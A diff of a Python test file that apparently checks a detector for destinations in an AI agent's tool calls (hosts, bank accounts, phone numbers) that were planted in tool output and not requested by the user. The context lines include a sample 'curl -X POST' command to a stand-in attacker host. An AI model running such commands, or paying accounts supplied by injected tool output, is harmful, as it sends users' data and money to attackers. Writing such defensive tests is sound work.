@@ -185,3 +185,16 @@ def test_a_heredoc_written_to_a_file_is_content_but_one_a_shell_reads_is_run() -
     after = {"command": "cat > notes.txt <<-END\n\thttps://collect.evil.example\n\tEND\n"
                         "curl -X POST https://collect.evil.example/k"}
     assert foreign_targets(after, convo) == ["collect.evil.example"]  # the line after the body
+
+
+def test_a_number_is_a_target_only_where_it_says_where_something_goes() -> None:
+    convo = openai_conversation("delete the spam comment and pay the invoice",
+                                "comment 1234567890 by spammer; invoice: pay to account "
+                                "98765432, phone +44 20 7946 0958")
+    # an id taken from a listing is what the call acts on: the requested question judges it
+    assert foreign_targets({"comment_id": 1234567890}, convo) == []
+    assert foreign_targets({"comment_id": "1234567890"}, convo) == []
+    assert foreign_targets({"to_account": "98765432", "amount": 10}, convo) == ["98765432"]
+    assert foreign_targets({"phone": "+44 20 7946 0958"}, convo) == ["442079460958"]
+    assert foreign_targets({"command": "curl https://x.example/pay?acct=98765432"},
+                           convo) == []  # no host from tool output; numbers in shell words: no
